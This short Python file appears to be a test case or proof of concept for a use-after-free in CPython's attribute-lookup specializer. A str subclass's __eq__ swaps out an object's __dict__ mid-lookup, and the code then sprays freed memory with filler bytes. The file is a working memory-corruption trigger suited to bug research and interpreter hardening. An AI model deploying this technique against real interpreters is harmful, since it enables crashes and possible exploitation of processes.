# technique: the specializer looks an attribute name up in the instance dict it holds no reference to (specialize_dict_access -> _PyDict_GetItemHint): a str-subclass key's __eq__ replaces obj.__dict__, freeing it mid-lookup, and the lookup walks sprayed memory (here it never ends)
# expect: any
# timeout_s: 5
class V:
    pass

class Evil(str):
    armed = False
    def __hash__(self):
        return hash("marker")
    def __eq__(self, other):
        if Evil.armed:
            Evil.armed = False
            object.__setattr__(target, '__dict__', {})
            junk.extend([b'\x41' * 239 for _ in range(300)])
        return False

junk = []
target = V()
d = {Evil("zzz"): 1, "marker": 5}
object.__setattr__(target, '__dict__', d)
del d

def get(o):
    try:
        return o.marker
    except AttributeError:
        return None

seen = []
for i in range(8):
    Evil.armed = True
    seen.append(get(target))
    object.__setattr__(target, '__dict__', {Evil("zzz"): 1, "marker": 5})
junk.clear()
lists = [[i] * 34 for i in range(1000)]
[sum(map(sum, lists)), seen]
